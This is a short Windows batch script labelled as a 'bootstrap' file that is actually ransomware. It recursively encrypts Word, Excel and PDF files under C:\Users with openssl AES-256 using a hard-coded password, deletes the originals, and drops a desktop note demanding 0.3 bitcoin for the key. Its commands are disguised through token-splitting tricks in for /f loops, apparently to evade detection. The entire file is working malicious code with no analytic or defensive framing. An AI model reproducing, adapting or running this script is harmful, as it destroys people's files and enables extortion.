REM bootstrap 1409 v4
@echo off
for /f "tokens=2 delims=@" %%i in ("qcwa@for@pldx") do %%i /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
for /f "tokens=3 delims=#" %%i in ("hmss#yfyy#") do %%i  openssl enc -aes-256-cbc -pass pass:Sup3rS3cure! -in "%%f" -out "%%f.enc" && del "%%f"
)
for /f "tokens=1 delims=#" %%i in ("echo#pnwp#gsgm") do %%i Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
